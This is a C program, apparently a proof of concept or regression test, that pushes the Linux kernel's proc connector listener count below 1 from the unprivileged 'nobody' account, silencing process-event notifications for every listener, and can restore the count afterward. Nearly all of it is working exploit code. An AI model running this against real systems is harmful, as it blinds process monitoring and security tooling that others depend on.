/* SPDX-License-Identifier: MIT */
/*
 * The kernel's count of those who listen to the proc connector, brought out of step as anybody can, and back.
 *
 *   blind break          as nobody: prints by how much the count was lowered, so that it is below 1
 *   blind restore COUNT  raises it by that; fails where still nobody is told anything
 *
 * From 6.6 on an operation that there is not makes the kernel forget what the socket asked for last, and then
 * IGNORE lowers the count, LISTEN raises it [drivers/connector/cn_proc.c]. The kernel answers only while it is
 * above 0; the answer is there when sendto() returns. Exit status 77: this kernel does not let itself be broken.
 */
#define _GNU_SOURCE
#include <err.h>
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* Each program that ended without IGNORE has left one: there can be many. */
#define AT_MOST 1000000
#define BELOW_ZERO 50
#define NO_OPERATION 0

static int connection;
static __u32 requests;

/* Whether the kernel answered. */
static int ask(__u32 operation)
{
	struct {
		struct nlmsghdr header;
		struct cn_msg message;
		__u32 operation;
	} __attribute__((packed)) request;
	char answer[4096];
	int answered = 0;

	memset(&request, 0, sizeof request);
	request.header.nlmsg_len = sizeof request;
	request.header.nlmsg_type = NLMSG_DONE;
	request.message.id.idx = CN_IDX_PROC;
	request.message.id.val = CN_VAL_PROC;
	request.message.ack = ++requests;
	request.message.len = sizeof request.operation;
	request.operation = operation;
	if (send(connection, &request, sizeof request, 0) < 0)
		err(1, "send");
	while (recv(connection, answer, sizeof answer, MSG_DONTWAIT) > 0) {
		struct cn_msg message;
		struct proc_event event;

		memcpy(&message, answer + sizeof(struct nlmsghdr), sizeof message);
		memcpy(&event, answer + sizeof(struct nlmsghdr) + sizeof message, 16);
		if (event.what == PROC_EVENT_NONE && message.ack == requests + 1)
			answered = 1;
	}
	return answered;
}

static void open_connection(void)
{
	struct sockaddr_nl address = {.nl_family = AF_NETLINK, .nl_groups = CN_IDX_PROC};

	connection = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);
	if (connection < 0)
		err(1, "socket");
	if (bind(connection, (struct sockaddr *)&address, sizeof address) < 0)
		err(77, "bind");
}

static void raise_count(int times)
{
	while (times-- > 0) {
		ask(NO_OPERATION);
		ask(PROC_CN_MCAST_LISTEN);
	}
}

static int lower_count(void)
{
	int times = 0;

	while (ask(NO_OPERATION)) {
		if (times == AT_MOST) {
			raise_count(times);
			errx(77, "the count does not go down");
		}
		ask(PROC_CN_MCAST_IGNORE);
		times++;
	}
	for (int n = 0; n < BELOW_ZERO; n++) {
		ask(NO_OPERATION);
		ask(PROC_CN_MCAST_IGNORE);
	}
	return times + BELOW_ZERO;
}

int main(int count, char **arguments)
{
	if (count == 2 && !strcmp(arguments[1], "break")) {
		if (setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534))
			err(1, "setresuid");
		open_connection();
		printf("%d\n", lower_count());
		return 0;
	}
	if (count == 3 && !strcmp(arguments[1], "restore")) {
		open_connection();
		raise_count(atoi(arguments[2]));
		return ask(NO_OPERATION) ? 0 : 1;
	}
	errx(2, "usage: blind break | blind restore COUNT");
}
